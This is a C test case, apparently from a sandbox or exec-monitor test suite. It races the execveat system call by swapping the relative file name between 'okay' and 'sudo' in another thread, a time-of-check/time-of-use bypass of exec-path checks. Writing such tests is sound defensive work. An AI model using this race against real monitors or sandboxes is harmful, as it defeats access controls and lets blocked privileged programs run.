// technique: the exec path race through execveat with a directory descriptor and a relative name
// timeout: 60
#include "exec_race.h"
static char name[16];
static volatile int stop, started;
static void *flip(void *a) {
	started = 1;
	while (!stop) { memcpy(name, "sudo", 4); exec_spin(300); memcpy(name, "okay", 4); exec_spin(300); }
	return a;
}
static void attempt(void) {
	int dfd = open(exec_dir, O_RDONLY | O_DIRECTORY);
	memcpy(name, "okay", 5);
	pthread_t t;
	pthread_create(&t, 0, flip, 0);
	while (!started);
	char *argv[] = {"okay", 0};
	syscall(SYS_execveat, dfd, name, argv, (char *[]){0}, 0);
}
int main(int argc, char **argv) {
	exec_role(argc, argv);
	exec_setup();
	exec_race(attempt, 3000);
	return 0;
}
